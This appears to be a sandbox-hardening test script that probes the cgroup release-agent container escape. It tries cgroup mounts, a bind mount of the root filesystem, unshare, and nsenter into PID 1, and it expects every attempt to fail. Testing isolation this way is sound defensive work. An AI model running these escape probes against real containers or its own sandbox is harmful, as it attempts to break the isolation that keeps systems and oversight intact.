#: tries = "mounting a control group and naming a release agent, the old way out of containers"
#: stdout = "done\n"
mkdir /tmp/cg
mount -t cgroup -o memory cgroup /tmp/cg 2>/dev/null && echo mounted
mount -t cgroup2 none /tmp/cg 2>/dev/null && echo mounted
mount --bind / /tmp/cg 2>/dev/null && echo bound
mount -t proc proc /tmp/cg 2>/dev/null && echo proc
unshare -r id 2>/dev/null && echo unshared
nsenter -t 1 -m id 2>/dev/null && echo entered
find /tmp/cg -name release_agent
echo done
